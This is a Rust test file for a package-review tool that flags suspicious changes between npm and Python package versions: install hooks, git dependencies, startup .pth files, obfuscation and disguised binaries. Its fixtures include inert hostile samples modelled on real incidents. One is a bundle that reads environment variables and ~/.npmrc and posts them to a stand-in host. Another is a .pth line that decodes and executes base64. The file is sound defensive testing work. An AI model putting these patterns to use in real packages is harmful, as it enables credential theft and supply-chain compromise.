//! The review checks over small archives, and what they share with the files beside this one: the
//! shapes of incidents, real upgrades, what parsers read, and one case for every check. Payloads do
//! nothing and hosts do not exist.

use std::io::Cursor;

use countersign::domain::artifact::Filename;
use countersign::domain::package::{Ecosystem, Version};
use countersign::domain::review::checks::{self, Position};
use countersign::domain::review::delta::{Comparison, FileChange};
use countersign::domain::review::finding::{Finding, Severity, Since};
use countersign::domain::review::survey::{Format, Survey};
use countersign::inspect::Limits;
use countersign::inspect::survey::{Source, survey};
use serde_json::{Value, json};

use crate::readers::build::{self, manifest, npm, with};
use crate::support::gateway::command;

mod catalogue;
mod code;
mod large;
mod real;
mod shapes;

type Files = Vec<(String, Vec<u8>)>;

fn npm_survey(bytes: &[u8]) -> Survey {
    survey(Cursor::new(bytes), Source::Npm, &Limits::default()).unwrap()
}

fn wheel_survey(more: &[(&str, &[u8])]) -> Survey {
    let mut files: Files = build::wheel_files();
    files.extend(more.iter().map(|(name, body)| ((*name).to_owned(), body.to_vec())));
    let bytes = build::wheel(&files, &build::record(&files));
    let name = Filename::parse("hello_wire-1.0.0-py3-none-any.whl").unwrap();
    survey(Cursor::new(bytes), Source::Python(&name), &Limits::default()).unwrap()
}

fn sdist_survey(more: &[(&str, &[u8])]) -> Survey {
    let info = b"Metadata-Version: 2.1\nName: hello.wire\nVersion: 1.0.0\n";
    let mut entries = vec![build::file("hello_wire-1.0.0/PKG-INFO", info)];
    let place = |name: &str| format!("hello_wire-1.0.0/{name}");
    entries.extend(more.iter().map(|(name, body)| build::file(&place(name), body)));
    let name = Filename::parse("hello_wire-1.0.0.tar.gz").unwrap();
    survey(Cursor::new(build::tgz(&entries)), Source::Python(&name), &Limits::default()).unwrap()
}

fn findings(baseline: Option<&Survey>, candidate: &Survey) -> Vec<Finding> {
    checks::findings(&Comparison { baseline, candidate }, &Position::default())
}

/// Check, severity and place, to compare with.
fn short(findings: &[Finding]) -> Vec<(&str, Severity, &str)> {
    findings
        .iter()
        .map(|f| (f.check.id, f.severity, f.file.as_deref().unwrap_or_default()))
        .collect()
}

const INDEX: (&str, &[u8]) = ("index.js", b"module.exports = () => 1\n");

fn benign() -> Survey {
    npm_survey(&npm(&manifest("1.0.0", json!({ "dependencies": { "left": "^1" } })), &[INDEX]))
}

/// What is found in an npm package that comes after [`benign`], with more in its manifest and more
/// files.
fn after(rest: Value, files: &[(&str, &[u8])]) -> Vec<Finding> {
    let manifest = with(manifest("1.0.1", json!({ "dependencies": { "left": "^1" } })), rest);
    let index = (!files.iter().any(|(name, _)| *name == INDEX.0)).then_some(INDEX);
    let files: Vec<_> = index.into_iter().chain(files.iter().copied()).collect();
    findings(Some(&benign()), &npm_survey(&npm(&manifest, &files)))
}

/// axios 2026: a young dependency that nothing imports, a patch version, nothing else.
#[test]
fn a_new_dependency_is_looked_at() {
    let dependencies = json!({ "dependencies": { "left": "^1", "plain-right": "^4.2.1" } });
    let next = npm_survey(&npm(&manifest("1.0.1", dependencies), &[INDEX]));
    let found = findings(Some(&benign()), &next);
    assert_eq!(short(&found), [("DP-03", Severity::Block, ""), ("DP-01", Severity::Look, "")]);
    assert_eq!(found[1].evidence, "plain-right ^4.2.1");
    assert_eq!(found[1].since, Since::New);
    assert!(findings(Some(&next), &next).is_empty(), "the same again is quiet");
}

/// TanStack 2026: an optional dependency straight from git, and a large file at the root.
#[test]
fn a_dependency_from_git_blocks() {
    let optional = json!({ "dependencies": { "left": "^1" },
        "optionalDependencies": { "setup": "github:somebody/setup#79ac49ee" } });
    let next = npm_survey(&npm(&manifest("1.0.1", optional), &[INDEX]));
    let found = findings(Some(&benign()), &next);
    let short = short(&found);
    assert!(short.contains(&("DP-02", Severity::Block, "")), "{short:?}");
    assert!(short.contains(&("DP-01", Severity::Look, "")), "{short:?}");
}

/// Shai-Hulud 2025: a patch version with an installation script and a bundle that harvests.
#[test]
fn a_worm_blocks_by_hook_target_and_what_it_reads() {
    let scripts = json!({ "dependencies": { "left": "^1" },
        "scripts": { "postinstall": "node bundle.js" } });
    let bundle: &[u8] = b"const cp = require('child_process')\n\
        const all = JSON.stringify(process.env)\n\
        const rc = read(home + '/.npmrc')\n\
        cp.execSync('npm publish')\n\
        fetch('https://hook.example.invalid/x', { body: all })\n";
    let next = npm_survey(&npm(&manifest("1.0.1", scripts), &[INDEX, ("bundle.js", bundle)]));
    let found = findings(Some(&benign()), &next);
    let blocks: Vec<&str> =
        found.iter().filter(|f| f.severity == Severity::Block).map(|f| f.check.id).collect();
    for id in ["HK-01", "CP-01", "CP-02", "CP-03", "CP-04", "CP-06"] {
        assert!(blocks.contains(&id), "{id} in {:?}", short(&found));
    }
    let host = found.iter().find(|f| f.check.id == "CP-05").unwrap();
    assert_eq!((&*host.evidence, host.line), ("hook.example.invalid", Some(5)));
}

/// A manifest that did not change, and what its script runs did.
#[test]
fn what_an_unchanged_hook_runs_blocks_when_it_changes() {
    let scripts = || json!({ "scripts": { "install": "node ./scripts/setup" } });
    let with = |body: &[u8]| {
        npm_survey(&npm(&manifest("1.0.0", scripts()), &[INDEX, ("scripts/setup.js", body)]))
    };
    let (before, after) = (with(b"build()\n"), with(b"build(); more()\n"));
    let found = findings(Some(&before), &after);
    let expected = [("HK-02", Severity::Block, "scripts/setup.js"), ("HK-01", Severity::Note, "")];
    assert_eq!(short(&found), expected);
    assert_eq!(short(&findings(Some(&before), &before)), [("HK-01", Severity::Note, "")]);
}

/// The phantom gyp of 2026: no script at all, and npm builds all the same.
#[test]
fn a_binding_gyp_blocks_when_it_is_new_or_runs_commands() {
    let gyp: &[u8] = b"{ 'targets': [{ 'sources': ['<!(node -e 1)'] }] }\n";
    let next = npm_survey(&npm(&manifest("1.0.1", json!({})), &[INDEX, ("binding.gyp", gyp)]));
    let found = findings(Some(&benign()), &next);
    assert!(short(&found).contains(&("HK-03", Severity::Block, "binding.gyp")));
    // A grammar that always built: nothing new, nothing run.
    let plain: &[u8] = b"{ 'targets': [{ 'sources': ['src/parser.c'] }] }\n";
    let grammar = npm_survey(&npm(&manifest("1.0.0", json!({})), &[INDEX, ("binding.gyp", plain)]));
    assert_eq!(short(&findings(None, &grammar)), [("HK-03", Severity::Look, "binding.gyp")]);
    let again = findings(Some(&grammar), &grammar);
    assert_eq!(short(&again), [("HK-03", Severity::Note, "binding.gyp")]);
}

/// A change of the shape of `bin` hides no other change.
#[test]
fn another_entry_file_is_said_whatever_else_changes() {
    let before = npm_survey(&npm(&manifest("1.0.0", json!({ "bin": "index.js" })), &[INDEX]));
    let rest = json!({ "bin": { "hello-wire": "index.js" }, "main": "other.js" });
    let other: (&str, &[u8]) = ("other.js", INDEX.1);
    let after = npm_survey(&npm(&manifest("1.0.1", rest), &[INDEX, other]));
    let findings = findings(Some(&before), &after);
    let said: Vec<(&str, &str)> =
        findings.iter().map(|f| (f.check.id, f.evidence.as_str())).collect();
    assert_eq!(said, [("HK-04", "bin.hello-wire: index.js"), ("HK-05", "main: other.js")]);
}

/// LiteLLM 2026: a file that runs at every start of Python, with a RECORD that is right.
#[test]
fn a_startup_file_blocks_wherever_it_is_put() {
    let before = wheel_survey(&[]);
    let pth: &[u8] = b"import os; exec(base64.b64decode(os.environ['X']))\n";
    let purelib = "hello_wire-1.0.0.data/purelib/zz.pth";
    for name in ["zz.pth", purelib] {
        let found = findings(Some(&before), &wheel_survey(&[(name, pth)]));
        let startup = found.iter().find(|f| f.check.id == "HK-06").expect("it is found");
        assert_eq!((startup.severity, startup.line), (Severity::Block, Some(1)));
        let hidden = found.iter().find(|f| f.check.id == "CT-08").expect("decoded and run");
        assert_eq!(hidden.severity, Severity::Block);
    }
    for name in ["a.start", "sitecustomize.py"] {
        let found = findings(Some(&before), &wheel_survey(&[(name, b"x = 1\n")]));
        assert!(short(&found).contains(&("HK-06", Severity::Block, name)), "{found:?}");
    }
    // A path file that only names folders runs nothing, and one inside a package is data.
    for (name, body) in [("a.pth", &b"../src\n"[..]), ("hello_wire/a.pth", pth)] {
        let found = findings(Some(&before), &wheel_survey(&[(name, body)]));
        assert!(found.iter().all(|f| f.check.id != "HK-06"), "{name}: {found:?}");
    }
    let standing = wheel_survey(&[("zz.pth", pth)]);
    let again = findings(Some(&standing), &standing);
    assert_eq!(short(&again), [("HK-06", Severity::Look, "zz.pth")]);
}

/// chalk 2025, react-native-aria 2025, GlassWorm, Trojan Source.
#[test]
fn what_is_there_to_be_overlooked_blocks() {
    let shapes: [(&str, String); 4] = [
        ("CT-07", format!("ok()\n{}evil()\n", " ".repeat(300))),
        ("CT-08", "const _0x112fa8=_0x180f;\n".to_owned()),
        ("CT-10", "if (admin) { /*\u{202E} begin \u{2066}*/ }\n".to_owned()),
        ("CT-11", format!("const s = `{}`\n", "\u{E0101}\u{E0110}\u{E0120}\u{E0130}")),
    ];
    for (id, text) in shapes {
        let files = [("index.js", text.as_bytes())];
        let next = npm_survey(&npm(&manifest("1.0.1", json!({})), &files));
        let found = findings(Some(&benign()), &next);
        assert!(
            short(&found).contains(&(id, Severity::Block, "index.js")),
            "{id}: {:?}",
            short(&found)
        );
        assert!(findings(Some(&next), &next).is_empty(), "{id} stands, and is quiet");
    }
}

/// xz, prebuilt add-ons: binaries by their bytes, and those that say they are something else.
#[test]
fn binaries_are_known_by_their_bytes_and_disguise_blocks() {
    let fat: &[u8] = b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07rest";
    let next = npm_survey(&npm(
        &manifest("1.0.1", json!({})),
        &[INDEX, ("lib/addon.node", fat), ("assets/logo.png", fat)],
    ));
    assert_eq!(next.at("lib/addon.node").unwrap().format, Format::MachO);
    let found = short(&findings(Some(&benign()), &next)).join_ids();
    assert_eq!(
        found,
        "CT-03 block assets/logo.png, CT-01 look assets/logo.png, CT-01 look lib/addon.node"
    );
}

trait JoinIds {
    fn join_ids(self) -> String;
}

impl JoinIds for Vec<(&str, Severity, &str)> {
    fn join_ids(self) -> String {
        let told: Vec<String> =
            self.iter().map(|(id, severity, file)| format!("{id} {severity} {file}")).collect();
        told.join(", ")
    }
}

#[test]
fn a_backport_that_would_become_latest_blocks() {
    let survey = benign();
    let comparison = Comparison { baseline: Some(&survey), candidate: &survey };
    let position = |tag: &str| Position {
        version: Version::parse(Ecosystem::Npm, "0.30.4").ok(),
        newest: Version::parse(Ecosystem::Npm, "1.14.0").ok(),
        dist_tag: Some(tag.to_owned()),
        ecosystem: Some(Ecosystem::Npm),
    };
    let found = checks::findings(&comparison, &position("latest"));
    assert_eq!(short(&found), [("VR-01", Severity::Block, "")]);
    let found = checks::findings(&comparison, &position("legacy"));
    assert_eq!(short(&found), [("VR-01", Severity::Look, "")]);
}

#[test]
fn files_and_members_that_differ_are_all_listed() {
    let before = npm_survey(&npm(
        &manifest("1.0.0", json!({ "license": "MIT", "scripts": { "test": "x" } })),
        &[INDEX, ("gone.js", b"1"), ("same.js", b"2")],
    ));
    let after = npm_survey(&npm(
        &manifest("1.1.0", json!({ "license": "MIT", "scripts": { "test": "y" } })),
        &[("index.js", b"changed\n"), ("same.js", b"2"), ("new.js", b"3")],
    ));
    let comparison = Comparison { baseline: Some(&before), candidate: &after };
    let told: Vec<String> = comparison
        .files()
        .iter()
        .map(|change| match change {
            FileChange::Added(file) => format!("+{}", file.path),
            FileChange::Removed(file) => format!("-{}", file.path),
            FileChange::Changed(_, file) => format!("~{}", file.path),
        })
        .collect();
    assert_eq!(told, ["-gone.js", "~index.js", "+new.js", "~package.json"]);
    let keys: Vec<String> = comparison.members().into_iter().map(|m| m.key).collect();
    assert_eq!(keys, ["scripts.test", "version"]);
}

/// The command reads two files and says the same.
#[tokio::test]
async fn the_command_says_what_changed() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, bytes: &[u8]| {
        let path = folder.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let old = write("a.tgz", &npm(&manifest("1.0.0", json!({})), &[INDEX]));
    let hooked = manifest("1.0.1", json!({ "scripts": { "postinstall": "node index.js" } }));
    let new = write("b.tgz", &npm(&hooked, &[INDEX]));
    let (code, out, _) = command(&["inspect", &new, "--baseline", &old], &[]).await;
    assert_eq!(code, Some(0), "{out}");
    assert!(out.starts_with("hello-wire 1.0.1, compared with 1.0.0\n"), "{out}");
    assert!(out.contains("scripts.postinstall: (none) → node index.js"), "{out}");
    assert!(out.contains("block HK-01: A script that npm runs at installation"), "{out}");
    let bad = write("c.tgz", b"no archive");
    let (code, out, log) = command(&["inspect", &bad], &[]).await;
    assert_eq!((code, out.as_str()), (Some(1), ""));
    assert!(log.contains("is refused"), "{log}");
}
